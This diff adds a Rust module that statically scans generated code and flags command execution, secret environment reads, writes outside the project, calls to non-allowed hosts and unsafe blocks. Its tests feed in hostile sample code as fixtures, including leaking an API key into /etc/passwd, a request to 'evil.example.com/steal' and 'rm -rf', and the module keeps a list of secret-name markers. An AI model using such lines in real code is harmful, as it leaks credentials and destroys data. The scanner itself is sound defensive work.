@@ -0,0 +1,620 @@
+use crate::helpers::sandbox::SERVER_PORT_VAR;
+use serde::Deserialize;
+use std::collections::HashMap;
+use std::fmt;
+use syn::punctuated::Punctuated;
+use syn::spanned::Spanned;
+use syn::visit::{self, Visit};
+use syn::{
+    Block, Expr, ExprCall, ExprLit, ExprMethodCall, ExprUnsafe, ItemFn, ItemImpl, ItemTrait, Lit,
+    Macro, Path, Token, UseTree,
+};
+
+// Environment variable names that usually hold credentials
+const SECRET_MARKERS: [&str; 8] = [
+    "KEY",
+    "SECRET",
+    "TOKEN",
+    "PASSWORD",
+    "PASSWD",
+    "CREDENTIAL",
+    "AWS_",
+    "AZURE_",
+];
+
+// Functions of `std::fs` that change the file system, by their last path segment
+const FS_WRITES: [&str; 11] = [
+    "write",
+    "create",
+    "create_dir",
+    "create_dir_all",
+    "remove_file",
+    "remove_dir",
+    "remove_dir_all",
+    "rename",
+    "copy",
+    "hard_link",
+    "set_permissions",
+];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Severity {
+    Low,
+    Medium,
+    High,
+}
+
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+#[serde(default)]
+pub struct SafetyPolicy {
+    // Reject code with high severity findings without asking anyone
+    pub auto_reject: bool,
+    // Hosts the generated code may talk to, on top of the factsheet's external urls
+    pub allowed_hosts: Vec<String>,
+}
+
+impl Default for SafetyPolicy {
+    fn default() -> Self {
+        Self {
+            auto_reject: true,
+            allowed_hosts: ["localhost", "127.0.0.1"].map(String::from).to_vec(),
+        }
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Finding {
+    pub severity: Severity,
+    pub rule: &'static str,
+    pub line: usize,
+    pub detail: String,
+}
+
+impl fmt::Display for Finding {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(
+            f,
+            "[{:?}] line {}: {} - {}",
+            self.severity, self.line, self.rule, self.detail
+        )
+    }
+}
+
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct SafetyReport {
+    pub findings: Vec<Finding>,
+}
+
+impl SafetyReport {
+    pub fn has_high_severity(&self) -> bool {
+        self.findings.iter().any(|f| f.severity == Severity::High)
+    }
+}
+
+impl fmt::Display for SafetyReport {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        if self.findings.is_empty() {
+            return write!(f, "No dangerous constructs found");
+        }
+        let lines: Vec<String> = self.findings.iter().map(|f| f.to_string()).collect();
+        write!(f, "{}", lines.join("\n"))
+    }
+}
+
+// Host of an http(s) url, without port
+fn url_host(text: &str) -> Option<&str> {
+    let rest = text
+        .strip_prefix("https://")
+        .or_else(|| text.strip_prefix("http://"))?;
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let host = authority.rsplit('@').next()?;
+    host.split(':').next().filter(|host| !host.is_empty())
+}
+
+fn path_segments(path: &Path) -> Vec<String> {
+    path.segments.iter().map(|s| s.ident.to_string()).collect()
+}
+
+fn string_literal(expr: &Expr) -> Option<String> {
+    match expr {
+        Expr::Lit(ExprLit {
+            lit: Lit::Str(lit), ..
+        }) => Some(lit.value()),
+        _ => None,
+    }
+}
+
+// Imported paths with the name they are used by, `*` for globs
+fn use_tree_paths(
+    tree: &UseTree,
+    prefix: &mut Vec<String>,
+    paths: &mut Vec<(String, Vec<String>)>,
+) {
+    match tree {
+        UseTree::Path(p) => {
+            prefix.push(p.ident.to_string());
+            use_tree_paths(&p.tree, prefix, paths);
+            prefix.pop();
+        }
+        UseTree::Name(n) => {
+            let name = n.ident.to_string();
+            paths.push((name.clone(), [prefix.clone(), vec![name]].concat()))
+        }
+        UseTree::Rename(r) => paths.push((
+            r.rename.to_string(),
+            [prefix.clone(), vec![r.ident.to_string()]].concat(),
+        )),
+        UseTree::Glob(_) => paths.push((
+            "*".to_string(),
+            [prefix.clone(), vec!["*".to_string()]].concat(),
+        )),
+        UseTree::Group(g) => {
+            for tree in &g.items {
+                use_tree_paths(tree, prefix, paths);
+            }
+        }
+    }
+}
+
+// What the file's `use` items bring into scope, wherever they are
+#[derive(Debug, Default)]
+struct Imports {
+    names: HashMap<String, Vec<String>>,
+    globs: Vec<Vec<String>>,
+}
+
+impl Imports {
+    // Paths a path in the code may stand for, itself first
+    fn resolve(&self, segments: &[String]) -> Vec<Vec<String>> {
+        let mut candidates = vec![segments.to_vec()];
+        if let Some(full) = segments.first().and_then(|first| self.names.get(first)) {
+            candidates.push([full.as_slice(), &segments[1..]].concat());
+        }
+        for glob in &self.globs {
+            candidates.push([glob.as_slice(), segments].concat());
+        }
+        candidates
+    }
+}
+
+impl<'ast> Visit<'ast> for Imports {
+    fn visit_item_use(&mut self, item: &'ast syn::ItemUse) {
+        let mut paths = vec![];
+        use_tree_paths(&item.tree, &mut vec![], &mut paths);
+        for (name, mut path) in paths {
+            match name.as_str() {
+                "*" => {
+                    path.pop();
+                    self.globs.push(path);
+                }
+                "self" => {
+                    path.pop();
+                    if let Some(last) = path.last() {
+                        self.names.insert(last.clone(), path);
+                    }
+                }
+                _ => {
+                    self.names.insert(name, path);
+                }
+            }
+        }
+    }
+}
+
+enum CallRule {
+    FsWrite,
+    EnvRead,
+}
+
+fn call_rule(segments: &[String]) -> Option<CallRule> {
+    let tail: Vec<&str> = segments.iter().rev().take(2).map(String::as_str).collect();
+    match tail.as_slice() {
+        [name, "fs"] if FS_WRITES.contains(name) => Some(CallRule::FsWrite),
+        ["create", "File"] => Some(CallRule::FsWrite),
+        ["var" | "var_os" | "vars" | "vars_os", "env"] => Some(CallRule::EnvRead),
+        _ => None,
+    }
+}
+
+fn is_command(segments: &[String]) -> bool {
+    segments
+        .windows(2)
+        .any(|w| w[0] == "process" && (w[1] == "Command" || w[1] == "*"))
+}
+
+struct Scanner<'a> {
+    allowed_hosts: &'a [String],
+    imports: Imports,
+    findings: Vec<Finding>,
+}
+
+impl Scanner<'_> {
+    fn flag(
+        &mut self,
+        severity: Severity,
+        rule: &'static str,
+        span: proc_macro2::Span,
+        detail: String,
+    ) {
+        self.findings.push(Finding {
+            severity,
+            rule,
+            line: span.start().line,
+            detail,
+        });
+    }
+
+    fn check_fs_write(&mut self, path_arg: Option<&Expr>, span: proc_macro2::Span, function: &str) {
+        let Some(path_arg) = path_arg else {
+            return;
+        };
+        match string_literal(path_arg) {
+            Some(path) if path.starts_with('/') || path.starts_with('~') || path.contains("..") => {
+                self.flag(
+                    Severity::High,
+                    "filesystem",
+                    span,
+                    format!("{} on a path outside the project: {}", function, path),
+                )
+            }
+            Some(_) => {}
+            None => self.flag(
+                Severity::Medium,
+                "filesystem",
+                span,
+                format!("{} on a path only known at run time", function),
+            ),
+        }
+    }
+
+    // Whether a chain of method calls starts at `OpenOptions::new()` or `File::options()`
+    fn is_open_options(&self, expr: &Expr) -> bool {
+        match expr {
+            Expr::MethodCall(call) => self.is_open_options(&call.receiver),
+            Expr::Call(ExprCall { func, .. }) => match func.as_ref() {
+                Expr::Path(func) => {
+                    self.imports
+                        .resolve(&path_segments(&func.path))
+                        .iter()
+                        .any(|candidate| {
+                            let tail: Vec<&str> =
+                                candidate.iter().rev().take(2).map(String::as_str).collect();
+                            matches!(
+                                tail.as_slice(),
+                                ["new", "OpenOptions"] | ["options", "File"]
+                            )
+                        })
+                }
+                _ => false,
+            },
+            _ => false,
+        }
+    }
+
+    fn check_env_read(&mut self, call: &ExprCall, segments: &[String]) {
+        let function = segments.join("::");
+        if segments
+            .last()
+            .is_some_and(|s| s == "vars" || s == "vars_os")
+        {
+            return self.flag(
+                Severity::High,
+                "secrets",
+                call.span(),
+                format!("{} reads every environment variable", function),
+            );
+        }
+
+        match call.args.first().and_then(string_literal) {
+            // Set by the sandbox for the server to bind
+            Some(name) if name == SERVER_PORT_VAR => {}
+            Some(name)
+                if SECRET_MARKERS
+                    .iter()
+                    .any(|m| name.to_uppercase().contains(m)) =>
+            {
+                self.flag(
+                    Severity::High,
+                    "secrets",
+                    call.span(),
+                    format!("{} reads secret {}", function, name),
+                )
+            }
+            Some(name) => self.flag(
+                Severity::Low,
+                "environment",
+                call.span(),
+                format!("{} reads {}", function, name),
+            ),
+            None => self.flag(
+                Severity::Medium,
+                "secrets",
+                call.span(),
+                format!("{} of a variable only known at run time", function),
+            ),
+        }
+    }
+}
+
+impl<'ast> Visit<'ast> for Scanner<'_> {
+    fn visit_item_use(&mut self, item: &'ast syn::ItemUse) {
+        let mut paths = vec![];
+        use_tree_paths(&item.tree, &mut vec![], &mut paths);
+        for (_, path) in paths {
+            if is_command(&path) {
+                self.flag(
+                    Severity::High,
+                    "process",
+                    item.span(),
+                    format!("imports {}", path.join("::")),
+                );
+            }
+        }
+        visit::visit_item_use(self, item);
+    }
+
+    fn visit_path(&mut self, path: &'ast Path) {
+        let segments = path_segments(path);
+        let candidates = self.imports.resolve(&segments);
+        if candidates.iter().any(|candidate| is_command(candidate)) {
+            self.flag(
+                Severity::High,
+                "process",
+                path.span(),
+                format!("runs programs with {}", segments.join("::")),
+            );
+        }
+        if candidates
+            .iter()
+            .flatten()
+            .any(|s| s == "TcpStream" || s == "UdpSocket")
+        {
+            self.flag(
+                Severity::Medium,
+                "network",
+                path.span(),
+                format!("opens raw sockets with {}", segments.join("::")),
+            );
+        }
+        visit::visit_path(self, path);
+    }
+
+    fn visit_expr_call(&mut self, call: &'ast ExprCall) {
+        if let Expr::Path(func) = call.func.as_ref() {
+            // `write(...)` after `use std::fs::write;` is `std::fs::write(...)`
+            let resolved = self
+                .imports
+                .resolve(&path_segments(&func.path))
+                .into_iter()
+                .find_map(|candidate| call_rule(&candidate).map(|rule| (rule, candidate)));
+            match resolved {
+                Some((CallRule::FsWrite, segments)) => {
+                    self.check_fs_write(call.args.first(), call.span(), &segments.join("::"))
+                }
+                Some((CallRule::EnvRead, segments)) => self.check_env_read(call, &segments),
+                None => {}
+            }
+        }
+        visit::visit_expr_call(self, call);
+    }
+
+    fn visit_expr_method_call(&mut self, call: &'ast ExprMethodCall) {
+        if call.method == "open" && self.is_open_options(&call.receiver) {
+            self.check_fs_write(call.args.first(), call.span(), "OpenOptions::open");
+        }
+        visit::visit_expr_method_call(self, call);
+    }
+
+    // Bodies of `println!`, `format!` and the like are expressions, others are tried as statements
+    fn visit_macro(&mut self, mac: &'ast Macro) {
+        if let Ok(args) = mac.parse_body_with(Punctuated::<Expr, Token![,]>::parse_terminated) {
+            for arg in &args {
+                self.visit_expr(arg);
+            }
+        } else if let Ok(stmts) = mac.parse_body_with(Block::parse_within) {
+            for stmt in &stmts {
+                self.visit_stmt(stmt);
+            }
+        }
+        visit::visit_macro(self, mac);
+    }
+
+    fn visit_lit_str(&mut self, lit: &'ast syn::LitStr) {
+        let value = lit.value();
+        if let Some(host) = url_host(&value) {
+            if !self.allowed_hosts.iter().any(|allowed| allowed == host) {
+                self.flag(
+                    Severity::High,
+                    "network",
+                    lit.span(),
+                    format!("calls host {} which is not allowed", host),
+                );
+            }
+        }
+    }
+
+    fn visit_expr_unsafe(&mut self, expr: &'ast ExprUnsafe) {
+        self.flag(
+            Severity::High,
+            "unsafe",
+            expr.span(),
+            "unsafe block".to_string(),
+        );
+        visit::visit_expr_unsafe(self, expr);
+    }
+
+    fn visit_item_fn(&mut self, item: &'ast ItemFn) {
+        if item.sig.unsafety.is_some() {
+            self.flag(
+                Severity::High,
+                "unsafe",
+                item.span(),
+                format!("unsafe fn {}", item.sig.ident),
+            );
+        }
+        visit::visit_item_fn(self, item);
+    }
+
+    fn visit_item_impl(&mut self, item: &'ast ItemImpl) {
+        if item.unsafety.is_some() {
+            self.flag(
+                Severity::High,
+                "unsafe",
+                item.span(),
+                "unsafe impl".to_string(),
+            );
+        }
+        visit::visit_item_impl(self, item);
+    }
+
+    fn visit_item_trait(&mut self, item: &'ast ItemTrait) {
+        if item.unsafety.is_some() {
+            self.flag(
+                Severity::High,
+                "unsafe",
+                item.span(),
+                format!("unsafe trait {}", item.ident),
+            );
+        }
+        visit::visit_item_trait(self, item);
+    }
+}
+
+// Parse generated code and flag what should not run unreviewed
+// `allowed_hosts` are the hosts urls in string literals may point to
+pub fn scan_code(code: &str, allowed_hosts: &[String]) -> Result<SafetyReport, syn::Error> {
+    let file = syn::parse_file(code)?;
+    let mut imports = Imports::default();
+    imports.visit_file(&file);
+    let mut scanner = Scanner {
+        allowed_hosts,
+        imports,
+        findings: vec![],
+    };
+    scanner.visit_file(&file);
+
+    let mut findings = scanner.findings;
+    findings.sort_by(|a, b| b.severity.cmp(&a.severity).then(a.line.cmp(&b.line)));
+    Ok(SafetyReport { findings })
+}
+
+// Hosts of the given urls
+pub fn hosts_of(urls: &[String]) -> Vec<String> {
+    urls.iter()
+        .filter_map(|url| url_host(url))
+        .map(String::from)
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_scan_flags_dangerous_code() {
+        let code = r#"
+use std::process::Command;
+use std::{env, fs};
+
+fn main() {
+    let key = env::var("OPENAI_API_KEY").unwrap();
+    let log_level = env::var("LOG_LEVEL").unwrap_or_default();
+    fs::write("database.json", "[]").unwrap();
+    fs::write("/etc/passwd", key).unwrap();
+    let _ = reqwest::blocking::get("https://evil.example.com/steal");
+    let _ = reqwest::blocking::get("http://worldtimeapi.org/api/timezone");
+    let _ = unsafe { std::mem::transmute::<u32, f32>(1) };
+    Command::new("rm").arg("-rf").status().unwrap();
+}
+"#;
+        let allowed_hosts = hosts_of(&["http://worldtimeapi.org/api".to_string()]);
+        let report = scan_code(code, &allowed_hosts).expect("Code should parse");
+        let rules: Vec<(&str, Severity)> = report
+            .findings
+            .iter()
+            .map(|f| (f.rule, f.severity))
+            .collect();
+
+        assert!(rules.contains(&("process", Severity::High)));
+        assert!(rules.contains(&("secrets", Severity::High)));
+        assert!(rules.contains(&("filesystem", Severity::High)));
+        assert!(rules.contains(&("network", Severity::High)));
+        assert!(rules.contains(&("unsafe", Severity::High)));
+        assert_eq!(
+            report
+                .findings
+                .iter()
+                .filter(|f| f.rule == "network")
+                .count(),
+            1
+        );
+        assert_eq!(
+            report
+                .findings
+                .iter()
+                .filter(|f| f.rule == "secrets")
+                .count(),
+            1
+        );
+        assert!(rules.contains(&("environment", Severity::Low)));
+        assert_eq!(report.findings[0].severity, Severity::High);
+        assert!(report.has_high_severity());
+    }
+
+    #[test]
+    fn test_scan_sees_through_imports_and_macros() {
+        let flagged = |code: &str| -> Vec<(&'static str, Severity)> {
+            let report =
+                scan_code(code, &SafetyPolicy::default().allowed_hosts).expect("Code should parse");
+            report
+                .findings
+                .iter()
+                .map(|f| (f.rule, f.severity))
+                .collect()
+        };
+        let high = |rule| vec![(rule, Severity::High)];
+
+        assert_eq!(
+            flagged(r#"fn main() { println!("{}", std::env::var("OPENAI_API_KEY").unwrap()); }"#),
+            high("secrets")
+        );
+        assert_eq!(
+            flagged(
+                r#"fn main() { let _ = reqwest::get(format!("https://evil.example/{}", 1)); }"#
+            ),
+            high("network")
+        );
+        assert!(flagged(
+            "use std::process::*;\nfn main() { Command::new(\"sh\").status().unwrap(); }"
+        )
+        .contains(&("process", Severity::High)));
+        assert_eq!(
+            flagged(r#"use std::fs::write; fn main() { write("/etc/x", "").unwrap(); }"#),
+            high("filesystem")
+        );
+        assert_eq!(
+            flagged(r#"use std::env::var; fn main() { let _ = var("AWS_SECRET"); }"#),
+            high("secrets")
+        );
+        assert_eq!(
+            flagged(
+                r#"use std::fs::OpenOptions;
+fn main() { OpenOptions::new().write(true).open("/abs").unwrap(); }"#
+            ),
+            high("filesystem")
+        );
+        assert_eq!(
+            flagged(r#"fn main() { let _ = reqwest::get("http://0.0.0.0:9000/"); }"#),
+            high("network")
+        );
+    }
+
+    #[test]
+    fn test_scan_accepts_code_template() {
+        let template = include_str!("../../../web_template/src/code_template.rs");
+        let report = scan_code(template, &SafetyPolicy::default().allowed_hosts)
+            .expect("Template should parse");
+        assert!(!report.has_high_severity(), "{}", report);
+    }
+}